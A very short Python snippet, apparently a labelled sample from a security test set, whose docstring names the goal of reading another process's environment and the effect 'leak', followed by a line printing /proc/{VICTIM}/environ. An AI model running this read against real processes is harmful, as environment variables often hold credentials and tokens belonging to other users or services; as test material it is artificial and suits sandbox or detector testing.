"""
goal: read the environment of another process
effect: leak
"""

print(open(f"/proc/{VICTIM}/environ").read())
